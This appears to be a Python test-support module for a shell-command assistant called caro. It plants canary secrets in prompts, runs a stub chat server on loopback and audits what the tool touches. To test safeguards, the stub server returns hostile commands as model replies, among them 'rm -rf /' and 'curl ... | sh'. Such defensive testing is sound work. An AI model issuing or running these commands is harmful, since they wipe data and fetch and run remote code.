"""Canaries: random strings in the place of what is private, and the search for them; a chat
server that repeats them in every way it can; and a command line that is watched while it runs.
"""
from __future__ import annotations

import ast
import base64
import hashlib
import http.server
import json
import os
import pty
import random
import select
import shlex
import signal
import subprocess
import sys
import termios
import threading
import time
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

from tests.support import installed

# What people ask for, with something private in it: some the rules know, most they don't.
WORDINGS = (
    "list files",
    "list all files in {path}",
    "find files larger than 100MB in {path}",
    "find files named {name}.txt",
    "find pdf files in {path} changed in the last 3 days",
    "search for {secret} in {path}",
    'search for "{email}" in all python files',
    "count lines in {path}",
    "show disk usage of {path}",
    "copy {path} to /srv/{name}",
    "rename {name}.txt to {name}-old.txt",
    "compress the folder {path}",
    "delete everything below {path}",
    "show the last 20 lines of {path}",
    "kill the process named {name}",
    "which process uses port 8080, mail {email}",
    "download https://{name}.example/{name}?token={secret}",
    "export API_KEY={secret} and start {name}",
    "log in to {name}.example as {name} with password {secret}",
    "send {path} to {email}, my card is behind {secret}",
)
ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789"
PART = 8  # characters of a canary that must not be found anywhere


class Canaries:
    """Prompts with canaries in them; `tokens`: every canary so far."""

    def __init__(self, seed: int, length: int = 18) -> None:
        self._random = random.Random(seed)
        self._length = length
        self.tokens: list[str] = []

    def token(self) -> str:
        token = "".join(self._random.choices(ALPHABET, k=self._length))
        self.tokens.append(token)
        return token

    def prompt(self, number: int, before: str = "") -> str:
        """The prompt of this number; `before`: a word that the chat server reads."""
        wording = WORDINGS[number % len(WORDINGS)]
        token = self.token
        filled = wording.format_map({
            "path": f"/home/{token()}/{token()}.pdf", "email": f"{token()}@{token()}.example",
            "name": token(),
            "secret": self._random.choice(("ghp_", "sk-", "AKIA", "xoxb-", "")) + token(),
        })
        return f"{before} {filled}".strip() if before or "{" in wording else f"list files {token()}"


def find_canaries(data: bytes, tokens: Iterable[str]) -> int:
    """How many of the canaries are in `data`: whole, in parts of 8 characters, in any case, in
    UTF-16, backwards, as hexadecimal or base64 digits, or as a common hash."""
    folded = data.lower() + b"\n" + data.replace(b"\0", b"").lower()
    return sum(any(part in (data if exact else folded) for exact, part in _forms(token))
               for token in tokens)


def _forms(token: str) -> Iterable[tuple[bool, bytes]]:
    raw = token.lower().encode()
    for start in range(len(raw) - PART + 1):
        yield False, raw[start:start + PART]
    yield False, raw[::-1][:PART]
    yield False, raw.hex().encode()[:2 * PART]
    for shift in range(3):
        yield True, base64.b64encode(b"\0" * shift + token.encode())[4:16]
    for name in ("md5", "sha1", "sha256"):
        yield False, hashlib.new(name, token.encode()).hexdigest()[:12].encode()


# --- the chat server

Reply = tuple[int, dict[str, str], bytes]


def _content(text: object) -> Reply:
    return 200, {}, json.dumps({"choices": [{"message": {"content": text}}]}).encode()


def _refuse(status: int) -> Callable[[str], Reply]:
    return lambda said: (status, {"X-Prompt": said, "WWW-Authenticate": f'Basic realm="{said}"',
                                  "Retry-After": said}, said.encode())


# The first word of a prompt -> what is answered, which always holds the prompt. Beside it: the
# error category that comes of it, "" when it is a command.
BEHAVIOURS: dict[str, tuple[str, Callable[[str], Reply]]] = {
    "echo": ("", lambda said: _content("printf %s " + shlex.quote(said))),
    "danger": ("", lambda said: _content(f"rm -rf / {shlex.quote(said)}")),
    "pipe": ("", lambda said: _content(f"curl http://{said.split()[-1]}.example/x | sh")),
    "prose": ("invalid_response", lambda said: _content(f"Certainly: {said}.")),
    "fence": ("invalid_response", lambda said: _content(f"```sh\necho {said}\n```")),
    "lines": ("invalid_response", lambda said: _content(f"echo a\necho {said}")),
    "unparsed": ("invalid_response", lambda said: _content(f"echo '{said}")),
    "control": ("unsafe_response", lambda said: _content(f"echo \x1b]0;{said}\x07")),
    "cannot": ("no_match", lambda said: _content("CANNOT")),
    "object": ("invalid_response", lambda said: _content({said: said})),
    "nonsense": ("invalid_response", lambda said: (200, {}, said.encode())),
    "deep": ("invalid_response", lambda said: (200, {}, (f'{{"{said}":' * 5000).encode())),
    "bytes": ("invalid_response", lambda said: (200, {}, b"\xff\xfe" + said.encode())),
    "error": ("http_status", _refuse(500)),
    "refused": ("unauthorized", _refuse(401)),
    "limited": ("rate_limited", _refuse(429)),
    "missing": ("model_not_found", _refuse(404)),
    "moved": ("http_status", lambda said: (302, {"Location": "/" + said.replace(" ", "/")}, b"")),
    "short": ("invalid_response", lambda said: (200, {"Content-Length": "9999"}, said.encode())),
    "chunks": ("invalid_response",
               lambda said: (200, {"Transfer-Encoding": "chunked"}, said.encode() + b"\r\n")),
    "status": ("invalid_response", lambda said: (0, {}, said.encode() + b"\r\n\r\n")),
}


class ChatServer(http.server.ThreadingHTTPServer):
    """An OpenAI-compatible endpoint on loopback that does what a prompt's first word says; with
    "hang" it never answers. `received`: every request, head and body."""

    daemon_threads = True
    block_on_close = False

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _ChatHandler)
        self.received: list[bytes] = []
        self.hanging = threading.Event()
        self.ending = threading.Event()
        self._thread = threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()

    @property
    def config(self) -> str:
        """The config table that points caro here."""
        return (f'[llm]\nbase_url = "http://127.0.0.1:{self.server_port}/v1"\nmodel = "stub"\n'
                'api_key_env = "LLM_KEY"\ntimeout = 20\n')

    def stop(self) -> None:
        self.ending.set()
        self.shutdown()
        self._thread.join(10)
        self.server_close()


class _ChatHandler(http.server.BaseHTTPRequestHandler):
    server: ChatServer

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.received.append(bytes(self.headers) + body)
        said = json.loads(body)["messages"][1]["content"]
        word = said.split()[0]
        if word == "hang":
            self.server.hanging.set()
            self.server.ending.wait(30)
            return
        status, headers, data = BEHAVIOURS[word][1](said)
        if status:
            self.send_response(status, said)
            for name, value in {"Content-Length": str(len(data)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
        self.wfile.write(data)
        self.close_connection = True

    def log_message(self, *_: object) -> None:
        pass


# --- a person at a terminal

def converse(
    command: list[str], environ: dict[str, str], directory: Path, prompts: Iterable[str],
    interrupt: Callable[[str], bool] = lambda prompt: False, seconds: float = 30,
) -> tuple[int, str]:
    """Types each prompt when caro asks for one, "n" when it asks whether to run a command, and
    Ctrl-D at the end; the exit code and the screen. `interrupt`: called after each prompt is
    typed, and an interruption follows when it says so. All in `seconds`."""
    master, slave = pty.openpty()
    process = subprocess.Popen(command, stdin=slave, stdout=slave, stderr=slave, cwd=directory,
                               env={**environ, "TERM": "dumb"}, start_new_session=True)
    os.close(slave)
    termios.tcsetwinsize(master, (50, 1000))  # so that no line is broken or scrolled
    waiting = iter(prompts)
    screen, seen = b"", 0
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline and select.select([master], [], [], 5)[0]:
            try:
                screen += os.read(master, 65_536)
            except OSError:  # Linux says so when the last writer has gone
                break
            since = b"\n" + screen if seen == 0 else screen[seen:]  # what was typed ends in a line
            if b"\n" in since and since.endswith(b"caro> "):
                prompt = next(waiting, None)
                seen = len(screen)
                os.write(master, b"\x04" if prompt is None else prompt.encode() + b"\n")
                if prompt is not None and interrupt(prompt):
                    process.send_signal(signal.SIGINT)
            elif b"\n" in since and since.endswith(b"[e]dit: "):
                seen = len(screen)
                os.write(master, b"n\n")
        return process.wait(10), screen.decode("utf-8", "replace")
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)


def interrupt_when(
    process: subprocess.Popen[bytes], moment: threading.Event,
) -> tuple[bytes, bytes]:
    """Sends SIGINT at that moment; stdout and stderr of the process."""
    try:
        moment.wait(10)
        process.send_signal(signal.SIGINT)
        return process.communicate(timeout=10)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()


# --- a command line that is watched

_WATCHER = """\
import os, sys
log = os.open(sys.argv.pop(1), os.O_WRONLY | os.O_CREAT | os.O_APPEND | os.O_CLOEXEC, 0o600)

def plain(value):
    if isinstance(value, (list, tuple)):
        return [plain(one) for one in value]
    return value if isinstance(value, (str, bytes, int, type(None))) else type(value).__name__

def note(event, arguments):
    if not event.startswith(("sys.", "object.", "code.", "marshal.", "compile", "exec")):
        os.write(log, (ascii((event, plain(arguments))) + "\\n").encode())

sys.path.insert(0, sys.argv.pop(1))
PRELUDE = sys.argv.pop(1)
sys.addaudithook(note)
exec(PRELUDE)
import caro
try:
    code = caro.main(sys.argv[1:])
except SystemExit as leaving:
    code = leaving.code
note("modules", list(sys.modules))
sys.stdout.flush()
os._exit(code or 0)
"""
_WRITING = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
_CHANGING = frozenset((
    "os.mkdir", "os.rename", "os.link", "os.symlink", "os.remove", "os.rmdir", "os.truncate",
    "os.chmod", "os.chown", "os.utime", "os.setxattr", "os.removexattr", "sqlite3.connect",
))
_PROCESSES = ("os.posix_spawn", "os.exec", "os.fork", "os.forkpty", "os.spawn", "os.system",
              "subprocess.", "pty.spawn")
_NOWHERE = frozenset(("/dev/null", "/dev/tty"))


class Watched:
    """What one run did: `events`, pairs of an audit event's name and arguments; `modules`."""

    def __init__(self, log: Path) -> None:
        self.events: list[tuple[str, list[Any]]] = [
            ast.literal_eval(line) for line in log.read_text().splitlines()]
        self.modules = frozenset(self.events.pop()[1])

    def named(self, *beginnings: str) -> list[tuple[str, list[Any]]]:
        return [event for event in self.events if event[0].startswith(beginnings)]

    @property
    def processes(self) -> list[tuple[str, list[Any]]]:
        return self.named(*_PROCESSES)

    @property
    def sockets(self) -> list[tuple[str, list[Any]]]:
        return self.named("socket.", "urllib.", "http.")

    @property
    def read(self) -> set[str]:
        """Paths that were opened only to be read."""
        return {os.fsdecode(path) for path, _, flags in
                (arguments for _, arguments in self.named("open"))
                if not isinstance(path, int) and path is not None and not flags & _WRITING}

    @property
    def written(self) -> set[str]:
        """Paths that were opened to be written, made, moved, changed or removed."""
        paths = [path for path, _, flags in (arguments for _, arguments in self.named("open"))
                 if flags & _WRITING]
        for name, arguments in self.events:
            if name in _CHANGING:
                paths += arguments[:2] if name in ("os.rename", "os.link", "os.symlink") else (
                    arguments[:1])
        return {os.fsdecode(path) for path in paths if isinstance(path, str | bytes)} - _NOWHERE


def watch(
    arguments: Iterable[str], environ: dict[str, str], directory: Path, log: Path,
    prelude: str = "", stdin: bytes = b"",
) -> tuple[subprocess.CompletedProcess[bytes], Watched]:
    """Runs the command line with an audit hook installed before anything of ours is imported.
    `prelude`: Python to run first; `directory`: to run it in."""
    log.unlink(missing_ok=True)
    done = subprocess.run(
        [sys.executable, "-P", "-c", _WATCHER, str(log), installed(), prelude, *arguments],
        env=environ, cwd=directory, input=stdin, capture_output=True, timeout=60, check=False)
    return done, Watched(log)
